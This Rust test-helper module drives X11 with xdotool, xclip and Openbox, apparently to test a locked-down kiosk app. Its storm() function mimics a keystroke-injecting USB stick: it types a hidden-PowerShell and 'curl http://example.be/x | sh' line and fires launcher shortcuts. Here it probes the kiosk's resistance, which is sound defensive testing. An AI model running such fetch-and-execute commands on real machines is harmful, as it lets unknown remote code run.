//! The screen under the window: a window manager as the recipe has it, keys and touches of a real
//! keyboard and mouse, and what can be seen.

use anyhow::{Context as _, ensure};
use std::io::Write as _;
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};
use tempfile::TempDir;

/// The recipe's own configuration.
const RECIPE: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../src-tauri/linux/openbox-kiosk.xml"
);
/// What a desktop would still do with a window: asking it to close.
const CLOSES: &str =
    "<keyboard><keybind key=\"A-F4\"><action name=\"Close\"/></keybind></keyboard>";

/// Openbox on the display of this test; ended when dropped.
pub struct Manager {
    child: Child,
    _folder: TempDir,
}

impl Manager {
    /// Starts it as the recipe does, but that Alt+F4 asks a window to close.
    pub fn start() -> anyhow::Result<Self> {
        let recipe = std::fs::read_to_string(RECIPE)?;
        let folder = TempDir::new()?;
        let file = folder.path().join("rc.xml");
        ensure!(recipe.contains("<keyboard/>"), "the recipe has no keys");
        std::fs::write(&file, recipe.replace("<keyboard/>", CLOSES))?;
        let child = Command::new("openbox")
            .arg("--config-file")
            .arg(&file)
            .stderr(Stdio::null())
            .spawn()
            .context("openbox is installed")?;
        until("the window manager is there", || {
            Ok(told("xprop", &["-root", "_NET_SUPPORTING_WM_CHECK"])?.contains("window id"))
        })?;
        Ok(Self {
            child,
            _folder: folder,
        })
    }
}

impl Drop for Manager {
    fn drop(&mut self) {
        // It may have ended with its display.
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// What a program prints.
pub fn told(program: &str, words: &[&str]) -> anyhow::Result<String> {
    let output = run(program, words)?;
    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
}

/// Sends what xdotool is told: keys and touches that no page can tell from real ones. Errs when it
/// says anything: a key that it does not know it passes over and calls sent.
pub fn xdo(words: &[&str]) -> anyhow::Result<()> {
    let output = run("xdotool", words)?;
    let complaint = String::from_utf8_lossy(&output.stderr);
    ensure!(
        output.status.success() && complaint.is_empty(),
        "xdotool {words:?}: {complaint}"
    );
    Ok(())
}

/// Sends what xdotool is told in one line, its words parted by spaces.
pub fn gesture(line: &str) -> anyhow::Result<()> {
    xdo(&line.split(' ').collect::<Vec<_>>())
}

fn run(program: &str, words: &[&str]) -> anyhow::Result<Output> {
    Command::new(program)
        .args(words)
        .stdin(Stdio::null())
        .output()
        .with_context(|| format!("{program} is installed"))
}

/// Waits until something holds: longer than an app may take that hangs while it starts.
pub fn until(what: &str, holds: impl FnMut() -> anyhow::Result<bool>) -> anyhow::Result<()> {
    until_within(Duration::from_secs(150), what, holds)
}

/// Waits so long until something holds.
pub fn until_within(
    longest: Duration,
    what: &str,
    mut holds: impl FnMut() -> anyhow::Result<bool>,
) -> anyhow::Result<()> {
    let begun = Instant::now();
    while !holds()? {
        ensure!(begun.elapsed() < longest, "it never came: {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(())
}

/// What a stick that says it is a keyboard would type: a thousand keys in a second or two, and the
/// chords with which such sticks begin.
pub fn storm() -> anyhow::Result<()> {
    let words = "powershell -w hidden; curl http://example.be/x | sh; ".repeat(12);
    xdo(&["type", "--delay", "1", &words])?;
    for chord in [
        "super+r",
        "ctrl+alt+t",
        "alt+F2",
        "ctrl+shift+Escape",
        "super+e",
        "F1",
    ] {
        xdo(&["key", "--repeat", "25", "--delay", "1", chord])?;
    }
    Ok(())
}

/// Copies something, as somebody before did.
pub fn copy(words: &str) -> anyhow::Result<()> {
    for selection in ["clipboard", "primary"] {
        let mut child = Command::new("xclip")
            .args(["-in", "-selection", selection])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .context("xclip is installed")?;
        let input = child.stdin.as_mut().context("the input is piped")?;
        input.write_all(words.as_bytes())?;
        child.wait()?;
    }
    Ok(())
}

/// What a paste would bring.
pub fn pasted() -> anyhow::Result<String> {
    told("xclip", &["-out", "-selection", "clipboard"])
}

/// The windows that are in sight, menus and dialogs among them, and the one that has the keyboard.
pub fn windows() -> anyhow::Result<String> {
    let shown = told("xdotool", &["search", "--onlyvisible", "--name", ""])?;
    let active = told("xprop", &["-root", "_NET_ACTIVE_WINDOW"])?;
    let mut shown: Vec<&str> = shown.split_whitespace().collect();
    shown.sort_unstable();
    Ok(format!("{shown:?} {}", active.trim()))
}

/// Where the window with the keyboard stands, and how large it is.
pub fn place() -> anyhow::Result<String> {
    told(
        "xdotool",
        &["getactivewindow", "getwindowgeometry", "--shell"],
    )
}

/// The size of the screen.
pub fn size() -> anyhow::Result<String> {
    told("xdotool", &["getdisplaygeometry", "--shell"])
}

/// What is on the screen, small and grey: enough to tell pages apart, whatever moves on them.
pub fn picture() -> anyhow::Result<Vec<u8>> {
    let output = Command::new("import")
        .args([
            "-window", "root", "-resize", "64x40!", "-depth", "8", "gray:-",
        ])
        .output()
        .context("imagemagick is installed")?;
    ensure!(output.stdout.len() == 64 * 40, "no picture was taken");
    Ok(output.stdout)
}

/// How far two pictures are apart: 0 is the same, 255 black and white.
pub fn apart(one: &[u8], other: &[u8]) -> f64 {
    let sum: u32 = one
        .iter()
        .zip(other)
        .map(|(a, b)| u32::from(a.abs_diff(*b)))
        .sum();
    f64::from(sum) / f64::from(u32::try_from(one.len().max(1)).unwrap_or(u32::MAX))
}

/// Sends a signal to a process of this test; errs when there is none.
pub fn signal(kind: &str, id: u32) -> anyhow::Result<()> {
    let sent = Command::new("kill")
        .args([kind, &id.to_string()])
        .status()?;
    ensure!(sent.success(), "{kind} did not come to {id}");
    Ok(())
}
